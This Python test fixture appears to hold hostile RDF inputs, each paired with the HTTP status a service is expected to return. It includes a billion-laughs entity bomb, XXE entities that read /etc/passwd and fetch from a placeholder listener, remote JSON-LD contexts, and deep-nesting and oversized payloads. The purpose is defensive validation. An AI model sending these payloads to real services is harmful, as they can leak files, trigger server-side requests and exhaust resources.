"""Graphs to validate that are attacks: media type, text, statuses. LISTENER stands for the address of a listener."""

from collections.abc import Mapping

RDF = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="urn:e:">'
TURTLE, JSON_LD, XML = "text/turtle", "application/ld+json", "application/rdf+xml"
DEEP = 20_000
GIVEN_UP = frozenset({400, 413, 504})
OR_ANSWERED = GIVEN_UP | {200}
REFUSED, ANSWERED = frozenset({400}), frozenset({200})


def entities(levels: int) -> bytes:
    """Each entity ten times the one before."""
    steps = (b'<!ENTITY a%d "%b">' % (n + 1, b"&a%d;" % n * 10) for n in range(levels))
    return b'<!ENTITY a0 "aaaaaaaaaa">' + b"".join(steps)


GRAPHS: Mapping[str, tuple[str, bytes, frozenset[int]]] = {
    "a graph that says nothing": (TURTLE, b"<urn:a> <urn:b> <urn:c> .", ANSWERED),
    "entities of entities": (
        XML, b"<!DOCTYPE r [" + entities(9) + b"]>" + RDF
        + b'<rdf:Description rdf:about="urn:a"><e:p>&a9;</e:p></rdf:Description></rdf:RDF>', REFUSED),
    "entities from elsewhere": (
        XML, b'<!DOCTYPE r SYSTEM "LISTENER" [<!ENTITY a SYSTEM "LISTENER"><!ENTITY b SYSTEM '
        b'"file:///etc/passwd"><!ENTITY % c SYSTEM "LISTENER"> %c;]>' + RDF
        + b'<rdf:Description rdf:about="urn:a"><e:p>&a;&b;</e:p></rdf:Description></rdf:RDF>', REFUSED),
    "a context from elsewhere": (
        JSON_LD, b'{"@context": "LISTENER", "@id": "urn:a", "b": "c"}', REFUSED),
    "a context that imports": (
        JSON_LD, b'{"@context": {"@version": 1.1, "@import": "LISTENER"}, "@id": "urn:a"}', REFUSED),
    "a context of a term": (
        JSON_LD, b'{"@context": {"@version": 1.1, "p": {"@id": "urn:p", "@context": "LISTENER"}}, '
        b'"@id": "urn:a", "p": {"q": 1}}', REFUSED),
    "imports and shapes from elsewhere": (
        TURTLE, b"<LISTENER> a <http://www.w3.org/2002/07/owl#Ontology> ; "
        b"<http://www.w3.org/2002/07/owl#imports> <LISTENER> ; "
        b"<http://www.w3.org/ns/shacl#shapesGraph> <LISTENER> .", ANSWERED),
    "blank nodes in blank nodes": (
        TURTLE, b"<urn:a> <urn:b> " + b"[<urn:b> " * DEEP + b"1" + b"]" * DEEP + b" .", OR_ANSWERED),
    "triple terms in triple terms": (
        TURTLE, b"<urn:a> <urn:b> " + b"<<( <urn:a> <urn:b> " * DEEP + b"1" + b")>>" * DEEP + b" .",
        OR_ANSWERED),
    "objects in objects": (JSON_LD, b'{"urn:p":' * DEEP + b"1" + b"}" * DEEP, OR_ANSWERED),
    "lists in lists": (JSON_LD, b"[" * DEEP + b"]" * DEEP, GIVEN_UP),
    "elements in elements": (
        XML, RDF + b"<rdf:Description><e:p>" * DEEP + b"</e:p></rdf:Description>" * DEEP
        + b"</rdf:RDF>", OR_ANSWERED),
    "one word of 19 MB": (TURTLE, b"a" * 19_000_000, GIVEN_UP),
    "19 MB of one triple": (
        "application/n-triples", b"<urn:a> <urn:b> <urn:c> .\n" * 730_000, OR_ANSWERED),
    "19 MB of nothing": (TURTLE, b" " * 19_000_000, GIVEN_UP),
    "NUL": (TURTLE, b"\x00", REFUSED),
    "no UTF-8": (TURTLE, b"\xff\xfe", REFUSED),
}  # fmt: skip
